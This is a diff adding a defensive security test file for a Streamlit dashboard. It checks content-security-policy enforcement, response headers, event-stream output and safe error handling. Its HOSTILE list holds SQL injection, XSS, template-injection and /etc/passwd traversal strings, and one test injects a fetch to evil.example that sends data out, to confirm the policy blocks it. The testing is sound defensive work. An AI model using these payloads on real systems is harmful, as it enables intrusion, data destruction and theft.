@@ -1,0 +1,189 @@
+"""What a hostile link, a hostile page and a hostile operator of a browser get: nothing."""
+
+import re
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.parse
+import urllib.request
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import ConsoleMessage, Page, expect
+from streamlit.testing.v1 import AppTest
+
+from dashboard import push, saved, security
+from scripts.stack import REPOSITORY
+from tests.conftest import eventually
+from tests.e2e.conftest import READY, Warehouse, free_port, serving
+
+PATHS = [f"/{path}" for path in (*saved.PAGES, "alerts")]
+TOLD = "select pg_notify('mart_version', '0')"
+HOSTILE = [
+    "'; drop table kpi.kpi_daily_sales; --",
+    '" or 1=1) union select raw_text from ops.ops_rejected_rows --',
+    "{{7*7}}${7*7}%(x)s:name",
+    "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'>",
+    "javascript:window.hacked=1",
+    "../../../etc/passwd\x00",
+    "9" * 400,
+]  # fmt: skip
+STOP_SECONDS = 5
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_pages_work_under_the_policy(page: Page, dashboard: str, path: str) -> None:
+    violations: list[str] = []
+
+    def note(message: ConsoleMessage) -> None:
+        if "Content Security Policy" in message.text or "violates" in message.text:
+            violations.append(message.text)
+
+    foreign: list[str] = []
+    page.on("console", note)
+    page.on("request", lambda request: None if dashboard in request.url else foreign.append(request.url))
+    page.goto(dashboard + path)
+    expect(page.locator("h1")).to_be_visible()
+    expect(page.locator(READY)).to_be_visible()
+    expect(page.get_by_test_id("stException")).to_have_count(0)
+    assert violations == []
+    assert [url for url in foreign if not url.startswith("data:")] == []
+
+
+def test_charts_events_and_downloads_work_under_the_policy(page: Page, dashboard: str, warehouse: Warehouse) -> None:
+    with page.expect_response(re.compile(push.PATH)) as events:
+        page.goto(dashboard)
+    assert events.value.status == 200
+    # Chart by chart, something was drawn.
+    expect(page.locator("canvas").first).to_be_visible()
+    drawn = page.evaluate(
+        "[...document.querySelectorAll('canvas')].filter(c => c.width && c.getContext('2d') && "
+        "c.getContext('2d').getImageData(0, 0, c.width, c.height).data.some(v => v)).length"
+    )
+    assert drawn >= 4
+    warehouse.sql("update ops.mart_version set mart_version = mart_version + 1")
+    [(version,)] = warehouse.sql("select mart_version from ops.mart_version")
+    warehouse.sql(TOLD)
+    expect(page.get_by_text(f"Version {version}")).to_be_visible()
+    page.goto(f"{dashboard}/pipeline")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download CSV").click()
+    assert download.value.suggested_filename == "rejected_rows.csv"
+
+
+def test_the_policy_keeps_foreign_code_and_places_out(page: Page, dashboard: str) -> None:
+    page.goto(dashboard)
+    expect(page.locator(READY)).to_be_visible()
+    page.evaluate(
+        """() => {
+        const add = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set));
+        add("script", {textContent: "window.inline = 1"});
+        add("script", {src: "data:text/javascript,window.data = 1"});
+        add("div", {innerHTML: "<img src=x onerror='window.handler = 1'>"});
+        add("iframe", {src: "https://evil.example/"});
+        window.refused = [];
+        document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
+        fetch("https://evil.example/?figures").catch(() => {});
+        new Image().src = "https://evil.example/?figures";
+        }"""
+    )
+    page.wait_for_function("window.refused.includes('connect-src') && window.refused.includes('img-src')")
+    assert page.evaluate("[window.inline, window.data, window.handler].every(each => !each)")
+    assert "unsafe-eval" not in security.POLICY["script-src"]
+    assert "'unsafe-inline'" not in security.POLICY["script-src"]
+
+
+@pytest.mark.parametrize("path", ["/", "/changes", "/_stcore/health", "/nothing-here.css"])
+def test_every_answer_has_the_headers(dashboard: str, path: str) -> None:
+    try:
+        with urllib.request.urlopen(dashboard + path, timeout=5) as answer:
+            headers = answer.headers
+    except urllib.error.HTTPError as error:
+        headers = error.headers
+    assert {name: headers[name] for name in security.HEADERS} == security.HEADERS
+
+
+def test_the_event_route_tells_a_number_and_nothing_else(dashboard: str, warehouse: Warehouse) -> None:
+    route = f"{dashboard}{push.PATH}?channel=rebuild_queue&last=%27"
+    with urllib.request.urlopen(route, timeout=30) as answer:
+        assert answer.headers["Content-Type"].startswith("text/event-stream")
+        lines = [answer.readline().decode() for _ in range(3)]
+        warehouse.sql("select pg_notify('mart_version', 'secret figures')")
+        lines += [answer.readline().decode() for _ in range(2)]
+    assert all(re.fullmatch(r"(retry: 2000|data: \d+|:)?\n", line) for line in lines), lines
+    assert sum(line.startswith("data:") for line in lines) == 2
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        urllib.request.urlopen(urllib.request.Request(route, data=b"{}"), timeout=5)
+    assert refused.value.code == 405
+
+
+def test_sigterm_ends_the_server_while_pages_are_open(warehouse: Warehouse, page: Page, tmp_path: Path) -> None:
+    with serving(warehouse, tmp_path) as (address, process):
+        page.goto(address)
+        expect(page.locator(READY)).to_be_visible()
+        with urllib.request.urlopen(f"{address}{push.PATH}", timeout=30) as stream:
+            assert stream.readline()
+            began = time.monotonic()
+            process.send_signal(signal.SIGTERM)
+            process.wait(STOP_SECONDS)
+            assert time.monotonic() - began < STOP_SECONDS
+            assert not stream.read().strip().endswith(b"error")
+    with socket.socket() as probe:
+        assert probe.connect_ex(("127.0.0.1", int(address.rsplit(":", 1)[1]))) != 0
+
+
+@pytest.mark.parametrize("script", [*saved.PAGES.values(), "views/alerts.py"])
+def test_hostile_values_in_a_link_are_values(app: AppTest, warehouse: Warehouse, script: str) -> None:
+    app.run()
+    app.switch_page(script)
+    before = warehouse.sql("select sum(net_sales), count(*) from kpi.kpi_daily_sales")
+    for value in HOSTILE:
+        for name in saved.PARAMETERS:
+            app.query_params[name] = [value, value] if name == "dates" else value
+        app.query_params["unheard-of"] = value
+        app.run()
+        assert not app.exception, (value, app.exception)
+        assert not [each.value for each in app.error if "database" in each.value.lower()]
+        shown = [each.value for each in (*app.warning, *app.markdown, *app.caption, *app.title)]
+        assert not [text for text in shown if value in text]
+    assert warehouse.sql("select sum(net_sales), count(*) from kpi.kpi_daily_sales") == before
+
+
+def test_hostile_links_run_nothing_in_a_browser(page: Page, dashboard: str) -> None:
+    for path in PATHS:
+        query = "&".join(f"{name}={urllib.parse.quote(HOSTILE[3])}" for name in sorted(saved.PARAMETERS))
+        page.goto(f"{dashboard}{path}?{query}")
+        expect(page.locator("h1")).to_be_visible()
+        expect(page.get_by_test_id("stException")).to_have_count(0)
+        assert page.evaluate("window.hacked") is None
+
+
+def test_a_fault_of_ours_is_told_to_the_log_and_not_to_the_reader(page: Page, tmp_path: Path) -> None:
+    """Streamlit's configuration is the project's; the script has a fault, as any of ours might."""
+    script, port = tmp_path / "faulty.py", free_port()
+    script.write_text("password = 'top secret'\nraise ValueError(f'cannot log in with {password}')\n")
+    command = [
+        sys.executable,
+        "-m",
+        "streamlit",
+        "run",
+        script,
+        "--server.port",
+        str(port),
+        "--server.headless",
+        "true",
+    ]
+    log = tmp_path / "log"
+    with log.open("w") as output, subprocess.Popen(command, cwd=REPOSITORY, stdout=output, stderr=output) as process:
+        try:
+            eventually("the server", lambda: "You can now view" in log.read_text())
+            page.goto(f"http://127.0.0.1:{port}")
+            expect(page.get_by_test_id("stException")).to_be_visible()
+            text = page.locator("body").inner_text()
+            assert not re.search(r"secret|ValueError|faulty\.py|Traceback", text), text
+            assert "top secret" in log.read_text()
+        finally:
+            process.terminate()
